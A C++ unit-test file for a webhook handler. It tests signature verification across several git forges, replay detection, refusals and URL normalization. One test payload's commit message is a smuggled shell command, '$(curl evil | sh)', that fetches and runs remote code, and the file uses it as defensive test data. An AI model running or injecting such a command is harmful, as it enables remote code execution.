#include "server/webhooks.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>

#include "base/clock.h"
#include "base/fs.h"
#include "base/sha256.h"
#include "store/sqlite_store.h"

namespace strake::server {
namespace {

using store::Json;

class WebhooksTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto dir = MakeTempDir("hooks");
    ASSERT_TRUE(dir) << dir.error().message;
    dir_ = *dir;
    auto st = store::OpenSqliteStore(dir_ + "/strake.db");
    ASSERT_TRUE(st);
    store_ = std::move(*st);
    hooks_ = std::make_unique<Webhooks>(
        *store_, clock_, [this](const store::Key& k) { pushed_.push_back(k); },
        [this](const WebhookDelivery& d) {
          recorded_.push_back(d);
          return Ok();
        });
    Add("Repository", "shop",
        {{"apiVersion", "strake.dev/v1"},
         {"kind", "Repository"},
         {"metadata", {{"name", "shop"}, {"namespace", "default"}}},
         {"spec",
          {{"url", "https://GitHub.com/acme/shop.git"},
           {"webhookSecretRef", {{"name", "hook"}}}}}});
    Add("Secret", "hook",
        {{"apiVersion", "v1"},
         {"kind", "Secret"},
         {"metadata", {{"name", "hook"}, {"namespace", "default"}}},
         {"stringData", {{"secret", kSecret}}}});
    // Same URL shape, no webhook secret: accepts nothing.
    Add("Repository", "open",
        {{"apiVersion", "strake.dev/v1"},
         {"kind", "Repository"},
         {"metadata", {{"name", "open"}, {"namespace", "default"}}},
         {"spec", {{"url", "https://gitlab.example/acme/open.git"}}}});
  }
  void TearDown() override { (void)RemoveAll(dir_); }

  void Add(const std::string& kind, const std::string& name, const Json& obj) {
    store::Resource r;
    r.key = {kind, "default", name};
    r.object = obj;
    ASSERT_TRUE(store_->Create(r, "Created", ""));
  }

  Response Post(const std::string& forge, const std::string& body,
                std::vector<std::pair<std::string, std::string>> headers) {
    Request req;
    req.method = "POST";
    req.path = "/webhooks/" + forge;
    req.headers = std::move(headers);
    req.body = body;
    return hooks_->Handle(req);
  }

  static constexpr const char* kSecret = "It's a Secret to Everybody";
  std::string dir_;
  FakeClock clock_{FromUnixMillis(1'800'000'000'000)};
  store::StorePtr store_;
  std::vector<store::Key> pushed_;
  std::vector<WebhookDelivery> recorded_;
  std::unique_ptr<Webhooks> hooks_;
};

// GitHub's documented push payload, trimmed; the commit message is hostile
// and stays data.
const char* kGithubPush = R"json({"ref":"refs/heads/main","before":"0000","after":"1234",
  "repository":{"name":"shop","full_name":"acme/shop","html_url":"https://github.com/acme/shop",
  "clone_url":"https://github.com/acme/shop.git","ssh_url":"git@github.com:acme/shop.git"},
  "pusher":{"name":"dev"},"head_commit":{"id":"1234","message":"$(curl evil | sh)"}})json";

TEST_F(WebhooksTest, AGithubPushIsVerifiedQueuedAndItsReplayIgnored) {
  std::string sig = "sha256=" + HmacSha256Hex(kSecret, kGithubPush);
  auto r = Post(
      "github", kGithubPush,
      {{"X-GitHub-Event", "push"}, {"X-GitHub-Delivery", "d-1"}, {"X-Hub-Signature-256", sig}});
  EXPECT_EQ(r.status, 202) << r.body;
  ASSERT_EQ(pushed_.size(), 1u);
  EXPECT_EQ(pushed_[0].name, "shop");
  ASSERT_EQ(recorded_.size(), 1u);
  EXPECT_EQ(recorded_[0].delivery_id, "d-1");
  // The same delivery again: answered, not acted on.
  r = Post(
      "github", kGithubPush,
      {{"X-GitHub-Event", "push"}, {"X-GitHub-Delivery", "d-1"}, {"X-Hub-Signature-256", sig}});
  EXPECT_EQ(r.status, 200) << r.body;
  EXPECT_NE(r.body.find("duplicate delivery"), std::string::npos);
  EXPECT_EQ(pushed_.size(), 1u);
  // A ping is answered; other events are accepted and ignored.
  r = Post(
      "github", kGithubPush,
      {{"X-GitHub-Event", "ping"}, {"X-GitHub-Delivery", "d-2"}, {"X-Hub-Signature-256", sig}});
  EXPECT_EQ(r.status, 200);
  r = Post(
      "github", kGithubPush,
      {{"X-GitHub-Event", "issues"}, {"X-GitHub-Delivery", "d-3"}, {"X-Hub-Signature-256", sig}});
  EXPECT_EQ(r.status, 202);
  EXPECT_EQ(pushed_.size(), 1u);
}

TEST_F(WebhooksTest, BadOrMissingSignaturesAreRefused) {
  std::string good = "sha256=" + HmacSha256Hex(kSecret, kGithubPush);
  std::string tampered = kGithubPush;
  tampered[tampered.find("main")] = 'M';
  auto r =
      Post("github", tampered,
           {{"X-GitHub-Event", "push"}, {"X-GitHub-Delivery", "t"}, {"X-Hub-Signature-256", good}});
  EXPECT_EQ(r.status, 401) << r.body;
  EXPECT_NE(r.body.find("does not match"), std::string::npos) << r.body;
  r = Post("github", kGithubPush, {{"X-GitHub-Event", "push"}, {"X-GitHub-Delivery", "m"}});
  EXPECT_EQ(r.status, 401);
  EXPECT_NE(r.body.find("X-Hub-Signature-256 is missing"), std::string::npos) << r.body;
  r = Post("github", kGithubPush,
           {{"X-GitHub-Event", "push"},
            {"X-Hub-Signature-256", "sha256=" + HmacSha256Hex("wrong", kGithubPush)}});
  EXPECT_EQ(r.status, 401);
  EXPECT_TRUE(pushed_.empty());
  EXPECT_EQ(recorded_.size(), 3u);  // refusals are recorded too
  // A Repository without a webhook secret accepts nothing.
  std::string gl =
      R"({"object_kind":"push","ref":"refs/heads/main",
          "project":{"git_http_url":"https://gitlab.example/acme/open.git"}})";
  r = Post("gitlab", gl, {{"X-Gitlab-Event", "Push Hook"}, {"X-Gitlab-Token", ""}});
  EXPECT_EQ(r.status, 401);
  r = Post("gitlab", gl, {{"X-Gitlab-Event", "Push Hook"}, {"X-Gitlab-Token", "anything"}});
  EXPECT_EQ(r.status, 401);
  EXPECT_TRUE(pushed_.empty());
  // Not JSON, too deep, unknown forge.
  r = Post("github", "[[[[", {{"X-Hub-Signature-256", "sha256=00"}});
  EXPECT_EQ(r.status, 400);
  r = Post("github", std::string(10000, '['), {{"X-Hub-Signature-256", "sha256=00"}});
  EXPECT_EQ(r.status, 400);
  EXPECT_EQ(Post("bitbucket", "{}", {}).status, 404);
}

TEST_F(WebhooksTest, GitlabGiteaAndGenericPayloads) {
  std::string gl = R"({"object_kind":"push","ref":"refs/heads/main","checkout_sha":"1234",
      "project":{"git_http_url":"https://github.com/acme/shop.git",
                 "git_ssh_url":"git@github.com:acme/shop.git"}})";
  auto r = Post("gitlab", gl,
                {{"X-Gitlab-Event", "Push Hook"},
                 {"X-Gitlab-Token", kSecret},
                 {"X-Gitlab-Event-UUID", "u-1"}});
  EXPECT_EQ(r.status, 202) << r.body;
  std::string gitea = kGithubPush;
  r = Post("gitea", gitea,
           {{"X-Gitea-Event", "push"},
            {"X-Gitea-Delivery", "g-1"},
            {"X-Gitea-Signature", HmacSha256Hex(kSecret, gitea)}});
  EXPECT_EQ(r.status, 202) << r.body;
  std::string generic = R"({"repository":{"url":"https://github.com/acme/shop/"},"ref":"main"})";
  r = Post("generic", generic,
           {{"X-Strake-Signature-256", "sha256=" + HmacSha256Hex(kSecret, generic)}});
  EXPECT_EQ(r.status, 202) << r.body;
  // Without a delivery id, the body's digest is the id.
  r = Post("generic", generic,
           {{"X-Strake-Signature-256", "sha256=" + HmacSha256Hex(kSecret, generic)}});
  EXPECT_EQ(r.status, 200) << r.body;
  EXPECT_EQ(pushed_.size(), 3u);
}

TEST_F(WebhooksTest, ADeliveryThatCannotBeRecordedIsNotActedOn) {
  Webhooks failing(
      *store_, clock_, [this](const store::Key& k) { pushed_.push_back(k); },
      [](const WebhookDelivery&) { return Fail("disk full"); });
  Request req;
  req.method = "POST";
  req.path = "/webhooks/github";
  req.headers = {{"X-GitHub-Event", "push"},
                 {"X-GitHub-Delivery", "d-9"},
                 {"X-Hub-Signature-256", "sha256=" + HmacSha256Hex(kSecret, kGithubPush)}};
  req.body = kGithubPush;
  auto r = failing.Handle(req);
  EXPECT_EQ(r.status, 503);
  EXPECT_TRUE(pushed_.empty());
  // The forge's retry is acted on, not taken for a replay.
  r = hooks_->Handle(req);
  EXPECT_EQ(r.status, 202) << r.body;
  EXPECT_EQ(pushed_.size(), 1u);
}

// The ids of deliveries are in the store: a replay after a restart (a new
// Webhooks over the same store) is still a duplicate, within the window.
TEST_F(WebhooksTest, ADeliveryReplayedAfterARestartIsADuplicate) {
  std::vector<std::pair<std::string, std::string>> headers = {
      {"X-GitHub-Event", "push"},
      {"X-GitHub-Delivery", "d-restart"},
      {"X-Hub-Signature-256", "sha256=" + HmacSha256Hex(kSecret, kGithubPush)}};
  EXPECT_EQ(Post("github", kGithubPush, headers).status, 202);
  ASSERT_EQ(pushed_.size(), 1u);
  hooks_ = std::make_unique<Webhooks>(*store_, clock_,
                                      [this](const store::Key& k) { pushed_.push_back(k); });
  auto r = Post("github", kGithubPush, headers);
  EXPECT_EQ(r.status, 200) << r.body;
  EXPECT_NE(r.body.find("duplicate delivery"), std::string::npos) << r.body;
  EXPECT_EQ(pushed_.size(), 1u);
  // After the replay window, the id is forgotten.
  clock_.Advance(std::chrono::duration_cast<std::chrono::milliseconds>(Webhooks::kReplayWindow) +
                 std::chrono::milliseconds(1));
  EXPECT_EQ(Post("github", kGithubPush, headers).status, 202);
  EXPECT_EQ(pushed_.size(), 2u);
}

TEST(WebhookUrlTest, NormalizesTheWaysAUrlIsWritten) {
  EXPECT_EQ(Webhooks::NormalizeUrl("HTTPS://GitHub.com/acme/Shop.git/"),
            "https://github.com/acme/Shop");
  EXPECT_EQ(Webhooks::NormalizeUrl("https://bob:pw@github.com/acme/shop"),
            "https://github.com/acme/shop");
  EXPECT_EQ(Webhooks::NormalizeUrl("file:///srv/git/apps.git"), "file:///srv/git/apps");
  // Found by fuzz/fuzz_webhook: removing ".git" left a trailing slash.
  EXPECT_EQ(Webhooks::NormalizeUrl("https://github.com/acme/shop/.git/"),
            "https://github.com/acme/shop");
}

}  // namespace
}  // namespace strake::server
